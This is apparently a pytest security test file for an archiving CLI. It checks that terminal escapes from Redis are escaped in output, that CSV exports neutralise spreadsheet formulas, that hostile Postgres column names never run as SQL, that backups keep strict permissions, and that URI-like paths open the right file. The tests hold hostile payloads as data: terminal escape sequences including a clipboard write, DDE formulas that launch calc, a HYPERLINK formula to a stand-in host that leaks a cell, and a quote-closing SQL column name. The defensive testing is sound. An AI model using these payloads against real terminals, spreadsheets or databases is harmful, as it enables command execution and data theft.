"""What the commands print, export and write is safe whatever text Redis held: no terminal escape
reaches the operator's terminal, no spreadsheet formula runs from an export, no central column
name runs as SQL, no copy is easier to read than the archive, and no path opens another file."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.helpers import REPO, atjob_hash, daemon_env, favorite_hash, job_hash, session_hash

# A window title (OSC 0), a clipboard write (OSC 52), a screen clear, a carriage return over the
# line, a backspace, DEL, a C1 control sequence introducer, a tab and a line break.
HOSTILE = "deploy\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2J\x1b[H\rfake\x08\x7f\x9b31m\tend\nok"
SHOWN = r"deploy\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2J\x1b[H\rfake\x08\x7f\x9b31m\tend\nok"
# what must not reach a terminal: every control character but the newline that ends a line of output
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def cli(server, db_path: Path, *args: str, umask: int | None = None, **env: str) -> subprocess.CompletedProcess[str]:
    """The command in a process of its own; ``umask``: the shell's, set before the command starts."""
    prefix = [] if umask is None else ["-c", f"import os, sys; os.umask({umask}); "
                                             "from archiver.commands.cli import main; "
                                             "sys.argv[0] = 'desto-archiver'; sys.exit(main())"]  # fmt: skip
    result = subprocess.run(
        [sys.executable, *(prefix or ["-m", "archiver"]), *args],
        cwd=REPO,
        env=daemon_env(server, db_path, **env),
        capture_output=True,
        timeout=120,
    )
    # decoded by hand: text=True would turn a carriage return into a line break before it is seen
    return subprocess.CompletedProcess(result.args, result.returncode, result.stdout.decode(), result.stderr.decode())


def hostile_records(redis) -> dict[str, str]:
    """A session, its job, a favorite and an at-job whose every text field holds terminal escapes."""
    session = session_hash(session_name=HOSTILE, tmux_session_name=HOSTILE, status="finished")
    job = job_hash(session_id=session["session_id"], command=HOSTILE, status="finished", exit_code="0")
    session["job_ids"] = job["job_id"]
    favorite = favorite_hash(name=HOSTILE, command=HOSTILE)
    redis.hset(f"desto:session:{session['session_id']}", mapping=session)
    redis.hset(f"desto:job:{job['job_id']}", mapping=job)
    redis.hset(f"desto:favorite:{favorite['favorite_id']}", mapping=favorite)
    redis.hset("desto:atjob:66", mapping=atjob_hash("66", status=HOSTILE, command=HOSTILE, session_name=HOSTILE))
    return {"session": session["session_id"], "job": job["job_id"], "favorite": favorite["favorite_id"]}


@pytest.fixture
def hostile(redis_server, redis, db_path: Path) -> dict[str, str]:
    ids = hostile_records(redis)
    result = cli(redis_server, db_path, "backfill")
    assert result.returncode == 0, result.stderr
    return ids


def assert_safe_for_a_terminal(result: subprocess.CompletedProcess[str], shown: str = SHOWN) -> None:
    for stream in (result.stdout, result.stderr):
        assert not CONTROL.search(stream), CONTROL.findall(stream)
    assert shown in result.stdout, result.stdout


# ─── terminal escapes ────────────────────────────────────────────────────────────────────────────


def test_terminal_escapes_from_redis_never_reach_the_operator_s_terminal(redis_server, redis, db_path, hostile):
    """Every command's output for people shows a control character as its escape (``\\x1b``)
    instead of sending it: names, command lines and statuses from Redis change no window title,
    write no clipboard, clear no screen and overwrite no line."""
    history = cli(redis_server, db_path, "history")
    assert history.returncode == 0, history.stderr
    # the table's cell is cut at 60 characters: the start of the escaped name is there, its escapes shown
    assert_safe_for_a_terminal(history, shown=SHOWN[:40])

    for args in (
        ("show", hostile["session"]),
        ("forget", "--dry-run", hostile["session"], hostile["favorite"]),
        ("stats",),
    ):
        result = cli(redis_server, db_path, *args)
        assert result.returncode == 0, (args, result.stderr)
        # a table's cell is cut at 60 characters; show's header line holds the name whole
        assert_safe_for_a_terminal(result, shown=SHOWN if args[0] == "show" else SHOWN[:40])

    # a record the archive does not hold yet, whose key itself holds escapes: check lists its key
    redis.hset("desto:favorite:\x1b]0;key\x07", mapping=favorite_hash("\x1b]0;key\x07", name=HOSTILE))
    redis.hset(f"desto:favorite:{hostile['favorite']}", "command", HOSTILE + "2")
    check = cli(redis_server, db_path, "check", "--no-daemon", "--show-diffs", "--settle", "0")
    assert check.returncode == 1, check.stderr
    assert_safe_for_a_terminal(check, shown=r"missing: desto:favorite:\x1b]0;key\x07")


def test_machine_outputs_keep_the_text_exactly(redis_server, redis, db_path, hostile) -> None:
    history = json.loads(cli(redis_server, db_path, "history", "--json").stdout)
    assert [s["session_name"] for s in history] == [HOSTILE]
    shown = json.loads(cli(redis_server, db_path, "show", hostile["session"], "--json").stdout)
    assert shown["jobs"][0]["command"] == HOSTILE
    favorites = cli(redis_server, db_path, "export", "favorites").stdout.splitlines()
    assert [json.loads(line)["name"] for line in favorites] == [HOSTILE]
    stats = json.loads(cli(redis_server, db_path, "stats", "--json").stdout)
    assert stats["records"]["atjobs"]["by_status"] == {HOSTILE: 1}


def test_terminal_escapes_in_the_central_database_never_reach_the_operator_s_terminal(
    redis_server, redis, db_path, hostile, pg_url
) -> None:
    """The central database holds every host's text, and each host's own name and file: none of it
    reaches the terminal of whoever reads it there."""
    source = "gpu\x1b]0;owned\x07"
    shipped = cli(redis_server, db_path, "ship", "--postgres-url", pg_url, "--source", source)
    assert shipped.returncode == 0, shipped.stderr
    assert_safe_for_a_terminal(shipped, shown=r"gpu\x1b]0;owned\x07")
    for args in (("history",), ("stats",)):
        result = cli(redis_server, db_path, *args, "--postgres-url", pg_url)
        assert result.returncode == 0, result.stderr
        assert_safe_for_a_terminal(result, shown=r"gpu\x1b]0;owned\x07")
    assert SHOWN[:40] in cli(redis_server, db_path, "history", "--postgres-url", pg_url).stdout


# ─── spreadsheet formulas ────────────────────────────────────────────────────────────────────────

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_csv_export_neutralises_what_a_spreadsheet_would_run(redis_server, redis, db_path: Path) -> None:
    """A text cell that starts with = + - @, a tab or a carriage return is written after a single
    quote, so a spreadsheet shows it instead of evaluating it; --raw-csv writes the text as it is,
    and JSON Lines always does."""
    for formula in FORMULAS:
        redis.hset(f"desto:favorite:f{FORMULAS.index(formula)}", mapping=favorite_hash(
            f"f{FORMULAS.index(formula)}", name=formula, command=formula, use_count="-1"))  # fmt: skip
    assert cli(redis_server, db_path, "backfill").returncode == 0

    out = db_path.parent / "favorites.csv"
    result = cli(redis_server, db_path, "export", "favorites", "--format", "csv", "-o", str(out))
    assert result.returncode == 0, result.stderr
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["name"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert sorted(r["command"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r["favorite_id"] for r in rows} == {f"f{i}" for i in range(len(FORMULAS))}  # the rest as it was

    raw = cli(redis_server, db_path, "export", "favorites", "--format", "csv", "--raw-csv")
    assert raw.returncode == 0, raw.stderr
    rows = list(csv.DictReader(io.StringIO(raw.stdout, newline="")))
    assert sorted(r["name"] for r in rows) == sorted(FORMULAS)

    jsonl = cli(redis_server, db_path, "export", "favorites")
    assert sorted(json.loads(line)["name"] for line in jsonl.stdout.splitlines()) == sorted(FORMULAS)
    wrong = cli(redis_server, db_path, "export", "favorites", "--raw-csv")
    assert wrong.returncode == 2 and "--format csv" in wrong.stderr


# ─── names from the central database ─────────────────────────────────────────────────────────────

# A column name that closes its quotes: composed into a statement as "name", it calls a function
# the tables' owner wrote, with the privileges of whoever runs the statement.
INJECTED = 'session_id", desto_archiver.drop_marker() AS "x'
QUOTED = INJECTED.replace('"', '""')  # the name as a quoted identifier writes it, in either database
PERCENT = "share %s of 100%"  # a name psycopg would take for parameters if it were not told


def plant(pg_url: str) -> None:
    """As a role that owns the central tables: a marker table, a function that drops it, and a
    column of sessions named to call that function."""
    import psycopg

    with psycopg.connect(pg_url, autocommit=True) as pg:
        pg.execute("CREATE TABLE public.marker (id int)")
        pg.execute(
            "CREATE FUNCTION desto_archiver.drop_marker() RETURNS text LANGUAGE plpgsql "
            "AS $$ BEGIN DROP TABLE IF EXISTS public.marker; RETURN 'dropped'; END $$"
        )
        pg.execute(f'ALTER TABLE desto_archiver.sessions ADD COLUMN "{QUOTED}" text')


def add_percent_column(pg_url: str) -> None:
    import psycopg

    with psycopg.connect(pg_url, autocommit=True) as pg:
        pg.execute(f'ALTER TABLE desto_archiver.sessions ADD COLUMN "{PERCENT}" text')


def marker_exists(pg_url: str) -> bool:
    import psycopg

    with psycopg.connect(pg_url) as pg:
        return pg.execute("SELECT to_regclass('public.marker') IS NOT NULL").fetchone()[0]


def test_a_central_column_name_never_runs_as_sql_in_an_export(redis_server, redis, db_path, pg_url) -> None:
    hostile_records(redis)
    assert cli(redis_server, db_path, "backfill").returncode == 0
    assert cli(redis_server, db_path, "ship", "--postgres-url", pg_url, "--source", "gpu1").returncode == 0
    plant(pg_url)

    for what, fmt in (("sessions", "jsonl"), ("sessions", "csv")):
        result = cli(redis_server, db_path, "export", what, "--format", fmt, "--postgres-url", pg_url)
        assert result.returncode == 0, result.stderr
        assert marker_exists(pg_url), f"export {what} --format {fmt} ran the column's SQL"
    add_percent_column(pg_url)
    rows = [json.loads(line) for line in cli(redis_server, db_path, "export", "sessions", "--postgres-url", pg_url)
            .stdout.splitlines()]  # fmt: skip
    assert [(r["session_name"], r[INJECTED], r[PERCENT]) for r in rows] == [(HOSTILE, None, None)]  # columns
    assert "x" not in rows[0]


def test_a_column_name_both_sides_hold_never_runs_as_sql_when_shipping(redis_server, redis, db_path, pg_url) -> None:
    """The shipper copies the columns the file and the central table both have: one named to close
    its quotes is copied as a column like the others, row by row and in a batch copied whole."""
    hostile_records(redis)
    for _ in range(60):  # more than a batch sent row by row
        record = session_hash()
        redis.hset(f"desto:session:{record['session_id']}", mapping=record)
    assert cli(redis_server, db_path, "backfill").returncode == 0
    assert cli(redis_server, db_path, "ship", "--postgres-url", pg_url, "--source", "gpu1").returncode == 0
    plant(pg_url)
    add_percent_column(pg_url)
    conn = sqlite3.connect(db_path)
    conn.execute(f'ALTER TABLE sessions ADD COLUMN "{QUOTED}" TEXT')
    conn.execute(f'ALTER TABLE sessions ADD COLUMN "{PERCENT}" TEXT')
    conn.execute(f"UPDATE sessions SET \"{QUOTED}\" = 'kept', \"{PERCENT}\" = 'half'")
    conn.commit()
    conn.close()

    result = cli(redis_server, db_path, "ship", "--postgres-url", pg_url, "--source", "gpu1")
    assert result.returncode == 0, result.stderr
    assert marker_exists(pg_url)
    from tests.pg_helpers import pg_rows

    assert {(r[INJECTED], r[PERCENT]) for r in pg_rows(pg_url, "sessions", "gpu1")} == {("kept", "half")}
    assert len(pg_rows(pg_url, "sessions", "gpu1")) == 61


# ─── files' permissions ──────────────────────────────────────────────────────────────────────────


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("archiver_umask", [None, "0022"])
def test_backups_and_exports_are_never_easier_to_read_than_the_archive(
    redis_server, redis, db_path: Path, tmp_path: Path, archiver_umask: str | None
) -> None:
    """From an administrator's shell (umask 0022): a copy of a 0600 archive is 0600, and the folders
    made for it 0700, whatever the umask would have given them."""
    hostile_records(redis)
    assert cli(redis_server, db_path, "backfill").returncode == 0
    db_path.chmod(0o600)
    env = {} if archiver_umask is None else {"ARCHIVER_UMASK": archiver_umask}

    copy = tmp_path / "backups" / "nightly" / "desto.db"
    result = cli(redis_server, db_path, "backup", str(copy), umask=0o022, **env)
    assert result.returncode == 0, result.stderr
    assert oct(mode(copy)) == oct(0o600)
    assert oct(mode(copy.parent)) == oct(0o700) and oct(mode(copy.parent.parent)) == oct(0o700)

    again = cli(redis_server, db_path, "backup", "--force", str(copy), umask=0o022, **env)
    assert again.returncode == 0, again.stderr
    assert oct(mode(copy)) == oct(0o600)

    exported = tmp_path / "sessions.csv"
    result = cli(redis_server, db_path, "export", "sessions", "-o", str(exported), umask=0o022, **env)
    assert result.returncode == 0, result.stderr
    assert oct(mode(exported)) == oct(0o600)
    # a file that was there, readable by others, is no longer once it holds the export
    exported.chmod(0o644)
    result = cli(redis_server, db_path, "export", "jobs", "-o", str(exported), umask=0o022, **env)
    assert result.returncode == 0, result.stderr
    assert oct(mode(exported)) == oct(0o600)


def test_a_copy_of_an_archive_its_group_reads_keeps_its_group_s_access(redis_server, redis, db_path: Path, tmp_path):
    assert cli(redis_server, db_path, "backfill").returncode == 0
    db_path.chmod(0o640)
    copy = tmp_path / "backups" / "desto.db"
    result = cli(redis_server, db_path, "backup", str(copy), umask=0o022, ARCHIVER_UMASK="0022")
    assert result.returncode == 0, result.stderr
    assert oct(mode(copy)) == oct(0o640) and oct(mode(copy.parent)) == oct(0o750)


# ─── paths that read as URIs ─────────────────────────────────────────────────────────────────────


def test_read_only_commands_open_the_file_named_even_when_its_path_looks_like_a_uri(
    redis_server, redis, tmp_path: Path
) -> None:
    """``%41``, ``?`` and ``#`` in the archive's path are part of its name: the reading commands
    open that file, not ``aAb`` beside it, and create nothing."""
    folder = tmp_path / "a%41b?x#y"
    folder.mkdir()
    db_path = folder / "desto.db"
    ids = hostile_records(redis)
    assert cli(redis_server, db_path, "backfill").returncode == 0
    # what a path cut at its '?' and decoded would open: a decoy archive of other sessions
    decoy = tmp_path / "aAb"
    shutil.copy(db_path, decoy)
    conn = sqlite3.connect(decoy)
    conn.execute("UPDATE sessions SET session_name = 'decoy'")
    conn.commit()
    conn.close()

    history = cli(redis_server, db_path, "history", "--json")
    assert history.returncode == 0, history.stderr
    assert [s["session_name"] for s in json.loads(history.stdout)] == [HOSTILE]
    exported = cli(redis_server, db_path, "export", "sessions")
    assert [json.loads(line)["session_name"] for line in exported.stdout.splitlines()] == [HOSTILE]
    assert cli(redis_server, db_path, "show", ids["session"], "--json").returncode == 0
    stats = json.loads(cli(redis_server, db_path, "stats", "--json").stdout)
    assert stats["file"] == str(db_path) and stats["records"]["sessions"]["total"] == 1
    copy = tmp_path / "copy.db"
    assert cli(redis_server, db_path, "backup", str(copy)).returncode == 0
    assert sqlite3.connect(copy).execute("SELECT session_name FROM sessions").fetchall() == [(HOSTILE,)]

    decoy.unlink()
    check = cli(redis_server, db_path, "check", "--no-daemon", "--settle", "0")
    assert check.returncode == 0, check.stdout + check.stderr
    dry = cli(redis_server, db_path, "backfill", "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert sorted(os.listdir(tmp_path)) == sorted(["a%41b?x#y", "copy.db"])  # nothing opened, nothing created


def test_every_read_only_open_of_the_archive_goes_through_the_one_helper() -> None:
    """A module that builds its own ``file:`` URI from a path brings the problem above back (a
    new one did, once): every read-only open goes through ``archiver.archive.sql.read_only``."""
    package = Path(__file__).resolve().parent.parent / "archiver"
    own = [
        f"{module.relative_to(package)}:{n}"
        for module in sorted(package.rglob("*.py"))
        for n, line in enumerate(module.read_text().splitlines(), 1)
        if "mode=ro" in line and module.relative_to(package).as_posix() != "archive/sql.py"
    ]
    assert own == [], own
